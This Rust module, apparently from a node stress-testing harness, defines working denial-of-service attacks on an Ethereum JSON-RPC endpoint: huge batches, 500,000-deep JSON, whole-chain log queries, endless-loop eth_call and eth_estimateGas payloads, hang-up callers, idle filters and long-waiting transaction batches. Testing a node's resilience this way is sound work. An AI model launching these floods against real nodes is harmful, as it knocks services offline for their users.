//! Attacks by JSON-RPC requests: too many, too deep, too long, and by callers that hang up early or wait as long as
//! they may.

use std::time::Duration;

use alloy_primitives::Address;
use anyhow::{Context, Result};
use serde_json::{Value, json};
use slipnet::{accounts::Account, rpc::quantity};
use tokio::io::AsyncWriteExt;

use super::{
    attack::{Attack, AttackContext, AttackInfo, AttackSurface, FnAttack},
    http::{call, connect, post},
    stage::{Call, SigningParameters},
};

pub(super) const ALL: &[&dyn Attack] = &[
    &BATCH_BOMB,
    &DEEP_JSON,
    &LOG_BOMB,
    &CALL_BURNER,
    &ESTIMATE_BURNER,
    &GONE_CALLERS,
    &IDLE_FILTERS,
    &WAITING_CALLS,
];

/// Init code that never ends: JUMPDEST, PUSH1 0, JUMP.
const ENDLESS: &str = "0x5b600056";

/// Callers of [`WAITING_CALLS`], each with its own address: more than the node's call slots for strangers.
const WAITING: usize = 240;
/// Calls in one body: together they exceed a body's time limit.
const ENDLESS_CALLS: usize = 200;
/// Transactions in one body, each of which waits for a batch.
const AWAITED: u64 = 20;

fn request(method: &str, params: &Value) -> String {
    json!({ "jsonrpc": "2.0", "id": 1, "method": method, "params": params }).to_string()
}

const BATCH_BOMB: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "batch-bomb",
        "arrays of 1,000 or 5,000 calls, from 16 connections",
    ),
    start: |field| {
        Box::pin(field.swarm(16, Duration::from_millis(100), |field, index| async move {
            let count = if index % 4 == 0 { 5_000 } else { 1_000 };
            let params = json!([format!("{:#x}", field.target.head), true]);
            let calls = vec![request("eth_getBlockByNumber", &params); count];
            call(&field, AttackContext::address(index), &format!("[{}]", calls.join(","))).await
        }))
    },
};

const DEEP_JSON: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "deep-json",
        "bodies of 500,000 opening brackets: alone, as parameters, or as an id",
    ),
    start: |field| {
        Box::pin(field.swarm(8, Duration::from_millis(50), |field, index| async move {
            let deep = "[".repeat(500_000);
            let body = match index % 3 {
                0 => deep,
                1 => format!(r#"{{"jsonrpc":"2.0","id":1,"method":"eth_call","params":{deep}"#),
                _ => format!(r#"{{"jsonrpc":"2.0","method":"eth_chainId","params":[],"id":{deep}"#),
            };
            call(&field, AttackContext::address(index), &body).await
        }))
    },
};

const LOG_BOMB: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "log-bomb",
        "eth_getLogs over the whole chain, 24 at a time, half of them with 1,000 topics",
    )
    .quick(),
    start: |field| {
        Box::pin(field.swarm(24, Duration::from_millis(50), |field, index| async move {
            let mut filter = json!({ "fromBlock": "0x0", "toBlock": "latest" });
            if index % 2 == 0 {
                filter["topics"] = json!([topics(index)]);
            }
            call(&field, AttackContext::address(index), &request("eth_getLogs", &json!([filter]))).await
        }))
    },
};

/// Returns as many topics as a position may have.
pub(super) fn topics(salt: usize) -> Vec<String> {
    (0..1_000).map(|topic| format!("0x{:064x}", topic * 1_000 + salt)).collect()
}

const CALL_BURNER: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "call-burner",
        "eth_call of a loop that burns all available gas, 24 at a time",
    ),
    start: |field| {
        Box::pin(field.swarm(24, Duration::from_millis(20), |field, index| async move {
            let params = json!([{ "data": ENDLESS }, "latest"]);
            call(&field, AttackContext::address(index), &request("eth_call", &params)).await
        }))
    },
};

const ESTIMATE_BURNER: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "estimate-burner",
        "eth_estimateGas of a loop that burns all available gas, 24 at a time",
    ),
    start: |field| {
        Box::pin(field.swarm(24, Duration::from_millis(20), |field, index| async move {
            let params = json!([{ "data": ENDLESS }]);
            call(&field, AttackContext::address(index), &request("eth_estimateGas", &params)).await
        }))
    },
};

const GONE_CALLERS: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "gone-callers",
        "callers that request costly work and hang up at once, 200 a second",
    ),
    start: |field| {
        Box::pin(field.swarm(20, Duration::from_millis(100), |field, index| async move {
            let body = match index % 2 {
                0 => request("eth_call", &json!([{ "data": ENDLESS }, "latest"])),
                _ => request("eth_getLogs", &json!([{ "fromBlock": "0x0", "toBlock": "latest" }])),
            };
            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
            stream.write_all((post(body.len()) + &body).as_bytes()).await?;
            stream.flush().await?;
            // Long enough for the node to begin.
            tokio::time::sleep(Duration::from_millis(5)).await;
            Ok(())
        }))
    },
};

const IDLE_FILTERS: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "idle-filters",
        "100 new filters a second, each with 1,000 topics, which the caller never polls",
    ),
    start: |field| {
        Box::pin(field.swarm(10, Duration::from_millis(50), |field, index| async move {
            let filter = json!({ "fromBlock": "0x0", "topics": [topics(index)] });
            call(&field, AttackContext::address(index), &request("eth_newFilter", &json!([filter]))).await
        }))
    },
};

const WAITING_CALLS: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "waiting-calls",
        "240 addresses, each with one body that lasts as long as allowed: endless calls, or transactions that wait for their receipts",
    ),
    start: |field| {
        Box::pin(field.swarm(WAITING, Duration::from_millis(200), |field, index| async move {
            let body = match index % 4 {
                0 => awaited(&field, index).await?,
                _ => {
                    let endless = request("eth_call", &json!([{ "data": ENDLESS }, "latest"]));
                    format!("[{}]", vec![endless; ENDLESS_CALLS].join(","))
                }
            };
            call(&field, AttackContext::address(index), &body).await
        }))
    },
};

/// Returns a body of an account's transactions, each of which gets its receipt before the next one is sent.
async fn awaited(field: &AttackContext, index: usize) -> Result<String> {
    let key = field.target.accounts.get(index).context("there are fewer accounts than attackers")?;
    let account = Account::from_hex(key)?;
    let params = json!([account.address, "pending"]);
    let nonce: Value = field.target.rpc(index)?.call("eth_getTransactionCount", params).await?;
    let first = quantity(&nonce)?;
    let money =
        SigningParameters { chain_id: field.target.chain_id, base_fee_wei: field.target.base_fee_wei };
    let sent = (first..first + AWAITED).map(|nonce| {
        let signed = money.sign(&account, nonce, 1, Call::transfer(Address::repeat_byte(0xdd)));
        request("eth_sendRawTransactionSync", &json!([signed.raw, 20_000]))
    });
    Ok(format!("[{}]", sent.collect::<Vec<_>>().join(",")))
}
